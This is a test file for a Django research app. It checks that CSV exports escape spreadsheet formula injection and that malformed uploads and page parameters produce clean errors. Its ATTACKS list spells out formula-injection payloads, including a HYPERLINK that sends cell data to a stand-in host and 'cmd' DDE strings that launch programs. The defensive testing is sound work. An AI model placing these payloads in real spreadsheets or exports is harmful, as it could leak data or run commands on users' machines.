"""Spreadsheet-safe exports and bad input that used to give a 500.

Issue items: CSV formula injection (4), import files (9), the review page's `?page=` (11)
and a writer's text with a NUL character silently lost (12).
"""

from __future__ import annotations

import csv
import io
import json

import pandas as pd
import pytest
from django.test import Client
from django.urls import reverse

from csv_safe import spreadsheet_escape, spreadsheet_unescape
from intruder.exchange.exports import render_table
from intruder.exchange.imports import ImportValidationError, import_study_data
from intruder.models import Description, PersonGroup, Study, TargetPerson
from tests.intruder.factories import (
    make_description,
    make_judgment,
    make_participant,
    make_study,
    make_target,
    make_text,
)

pytestmark = pytest.mark.django_db

ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "=cmd",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
]


@pytest.mark.parametrize(
    "value",
    [*ATTACKS, "'Tis the season", "''=x", "plain", "", "'", "-", "a=b", "100", "x\n=y"],
)
def test_unescape_undoes_escape_exactly(value: str) -> None:
    assert spreadsheet_unescape(spreadsheet_escape(value)) == value


@pytest.mark.parametrize("value", ATTACKS)
def test_escaped_cells_cannot_start_a_formula(value: str) -> None:
    assert spreadsheet_escape(value)[0] == "'"


def test_ordinary_cells_and_numbers_are_left_alone() -> None:
    for value in ("Ines Calloway", "'Tis", "a=b", "", 12, -3, 0.5, True, None):
        assert spreadsheet_escape(value) == value


@pytest.fixture
def attacked_study():
    study = make_study(slug="attacked")
    target = make_target(study=study, name="Ines Calloway", group="semifamous")
    text = make_text(
        study=study, description=make_description(study=study, target=target, text=ATTACKS[0])
    )
    for i, attack in enumerate(ATTACKS):
        participant = make_participant(study=study, prolific_pid=f"-P{i}", group="semifamous")
        make_judgment(
            participant=participant,
            text=text,
            slot=i + 1,
            self_identified=True,
            guessed_name=attack,
            revealing_text=attack,
        )
    return study


def _rows(csv_text: str) -> list[dict[str, str]]:
    # The csv module, not pandas: pandas' parser splits a quoted field at a bare "\r".
    return list(csv.DictReader(io.StringIO(csv_text, newline="")))


def _cells(csv_text: str) -> list[str]:
    return [cell for row in _rows(csv_text) for cell in row.values()]


@pytest.mark.parametrize("table", ["judgments", "descriptions", "participants"])
def test_no_csv_cell_of_an_export_starts_a_formula(attacked_study: Study, table: str) -> None:
    for cell in _cells(render_table(attacked_study, table, "csv")):
        assert not cell or cell[0] not in "=+-@\t\r", (table, cell)


def test_csv_cells_read_back_to_the_answers_and_jsonl_stays_byte_exact(attacked_study) -> None:
    rows = _rows(render_table(attacked_study, "judgments", "csv"))
    restored = [spreadsheet_unescape(row["guessed_name"]) for row in rows]
    assert restored == ATTACKS
    jsonl = render_table(attacked_study, "judgments", "jsonl")
    assert [json.loads(line)["guessed_name"] for line in jsonl.splitlines()] == ATTACKS
    assert json.dumps(ATTACKS[0], ensure_ascii=False) in jsonl


def test_an_exported_descriptions_csv_imports_back_with_its_text_intact(attacked_study) -> None:
    exported = render_table(attacked_study, "descriptions", "csv")
    frame = pd.read_csv(io.StringIO(exported), dtype=str, keep_default_na=False)
    rows = io.StringIO()
    pd.DataFrame({"text": frame["text"], "target": frame["target_key"], "id": ["copy-1"]}).to_csv(
        rows, index=False
    )
    study = make_study(slug="copy")
    make_target(study=study, key=frame["target_key"][0], name="Ines Calloway", group="semifamous")
    import_study_data(study=study, content=rows.getvalue(), fmt="csv")
    assert Description.objects.get(study=study).text == ATTACKS[0]


# --- import files: each bad input is a line-and-field error, nothing written ----------------

BAD_JSONL = [
    ('{"name": "😀🎉", "group": "famous"}', 1, "key"),
    (json.dumps({"name": "N" * 201, "group": "famous"}), 1, "name"),
    (json.dumps({"name": "Ada", "group": "famous", "key": "k" * 101}), 1, "key"),
    (
        json.dumps(
            {"name": "Ada", "group": "semifamous", "wikipedia_url": "https://x.org/" + "a" * 300}
        ),
        1,
        "wikipedia_url",
    ),
    ('{"name": "Ada", "group": "famous", "profile": {"age": ' + "9" * 5000 + "}}", 1, "(line)"),
    ('{"name": "Ada", "group": "famous", "x": ' + "[" * 100_000 + "]" * 100_000 + "}", 1, "(line)"),
    ('{"name": "Ada", "group": "famous", "profile": {"age": NaN}}', 1, "(line)"),
    ('{"name": "Ada", "group": "famous", "profile": {"age": 1e999}}', 1, "(line)"),
    (json.dumps({"name": "Ada\u0000Lovelace", "group": "famous"}), 1, "name"),
    (json.dumps({"text": "A text\u0000 with NUL", "person": "ada", "type": "famous"}), 1, "text"),
    (json.dumps({"name": "Ada", "group": "famous", "profile": {"job\u0000": "x"}}), 1, "profile"),
]


@pytest.mark.parametrize(("content", "line", "field"), BAD_JSONL)
def test_bad_jsonl_names_the_line_and_field_and_writes_nothing(content, line, field) -> None:
    study = make_study(slug="imports")
    good = json.dumps({"name": "Grace Hopper", "group": "famous"})
    with pytest.raises(ImportValidationError) as error:
        import_study_data(study=study, content=f"{good}\n{content}\n", fmt="jsonl")
    first = error.value.errors[0]
    assert (first.line, first.field) == (line + 1, field), str(first)
    assert not TargetPerson.objects.filter(study=study).exists()


def test_a_csv_field_over_the_csv_modules_default_limit_is_a_field_error() -> None:
    # The csv module refuses fields over 131,072 characters by default; csv_safe reads them
    # (a long article is a real background document), so the field's own bound answers.
    study = make_study(slug="imports")
    content = 'name,group\nAda,famous\n"' + "x" * 140_000 + '",famous\n'
    with pytest.raises(ImportValidationError) as error:
        import_study_data(study=study, content=content, fmt="csv")
    assert (error.value.errors[0].line, error.value.errors[0].field) == (3, "name")
    assert not TargetPerson.objects.filter(study=study).exists()


def test_a_csv_cell_with_nul_is_a_line_and_field_error() -> None:
    study = make_study(slug="imports")
    with pytest.raises(ImportValidationError) as error:
        import_study_data(study=study, content="name,group\nA\x00da,famous\n", fmt="csv")
    assert (error.value.errors[0].line, error.value.errors[0].field) == (2, "name")


def test_a_name_in_another_script_gets_a_key_in_that_script() -> None:
    study = make_study(slug="imports")
    rows = [{"name": "Владимир Сорокин", "group": "famous"}, {"name": "李白", "group": "famous"}]
    import_study_data(study=study, content="\n".join(map(json.dumps, rows)), fmt="jsonl")
    assert set(TargetPerson.objects.values_list("key", flat=True)) == {"владимир-сорокин", "李白"}


def test_a_long_import_is_written_in_batches_and_whole(monkeypatch) -> None:
    from intruder.exchange import imports

    monkeypatch.setattr(imports, "WRITE_BATCH_ROWS", 7)
    study = make_study(slug="imports")
    rows = [
        {"text": f"Description {i} " * 5, "person": "ada lovelace", "type": "famous", "id": str(i)}
        for i in range(30)
    ]
    report = import_study_data(study=study, content="\n".join(map(json.dumps, rows)), fmt="jsonl")
    assert report.descriptions_created == Description.objects.filter(study=study).count() == 30


def test_a_write_failing_mid_import_removes_what_the_import_wrote(monkeypatch) -> None:
    from intruder.exchange import imports

    monkeypatch.setattr(imports, "WRITE_BATCH_ROWS", 5)
    real = imports._write_descriptions
    calls = {"n": 0}

    def fail_third(*args, **kwargs):
        calls["n"] += 1
        if calls["n"] == 3:
            raise RuntimeError("disk full")
        return real(*args, **kwargs)

    monkeypatch.setattr(imports, "_write_descriptions", fail_third)
    study = make_study(slug="imports")
    rows = [{"text": f"D{i}", "person": "ada lovelace", "type": "famous"} for i in range(20)]
    with pytest.raises(RuntimeError):
        import_study_data(study=study, content="\n".join(map(json.dumps, rows)), fmt="jsonl")
    assert not Description.objects.filter(study=study).exists()
    assert not TargetPerson.objects.filter(study=study).exists()


def test_an_upload_over_the_size_limit_is_refused_with_a_message(settings) -> None:
    settings.INTRUDER_IMPORT_MAX_MB = 0.001  # about 1 KB
    study = make_study(slug="imports")
    client = Client()
    client.force_login(study.owner)
    upload = io.BytesIO(b'{"name": "Ada", "group": "famous"}\n' * 100)
    upload.name = "big.jsonl"
    response = client.post(
        reverse("researcher-study-import", kwargs={"slug": study.slug}),
        {"file": upload},
        follow=True,
    )
    assert "the largest import is" in response.content.decode()
    assert not TargetPerson.objects.filter(study=study).exists()


def test_the_import_page_shows_a_deep_json_error_not_a_500() -> None:
    study = make_study(slug="imports")
    client = Client()
    client.force_login(study.owner)
    upload = io.BytesIO(("[" * 100_000 + "]" * 100_000).encode())
    upload.name = "deep.jsonl"
    response = client.post(
        reverse("researcher-study-import", kwargs={"slug": study.slug}), {"file": upload}
    )
    assert response.status_code == 400 and "nested too deeply" in response.content.decode()


# --- the review page's ?page= ---------------------------------------------------------------


@pytest.mark.parametrize("page", ["²", "٣", "9" * 5000, "99999999999999999999", "-1", "abc", "0"])
def test_the_review_page_answers_any_page_number(page: str) -> None:
    study = make_study(slug="review")
    make_text(study=study)
    client = Client()
    client.force_login(study.owner)
    response = client.get(reverse("researcher-review", kwargs={"slug": study.slug}), {"page": page})
    assert response.status_code == 200


# --- a writer's text with NUL ---------------------------------------------------------------


def test_a_writer_text_with_nul_is_shown_again_cleaned_with_a_message() -> None:
    study = make_study(kind=Study.Kind.COLLECTION, min_description_chars=10)
    make_target(study=study, group=PersonGroup.FAMOUS)
    writer = make_participant(study=study)
    from intruder.services.participants import participant_consent_give

    participant_consent_give(participant=writer)
    client = Client()
    url = reverse("participant-write", kwargs={"token": writer.token})
    response = client.post(url, {"position": 1, "text": "A long enough\x00 description."})
    assert response.status_code == 302  # post/redirect/get: the page after the redirect says it
    body = client.get(response.url).content.decode()
    assert "Null characters are not allowed" in body and "A long enough description." in body
    assert "\x00" not in body
    assert not Description.objects.exists()
    ok = client.post(url, {"position": 1, "text": "A long enough description."})
    assert ok.status_code == 302 and Description.objects.get().text == "A long enough description."
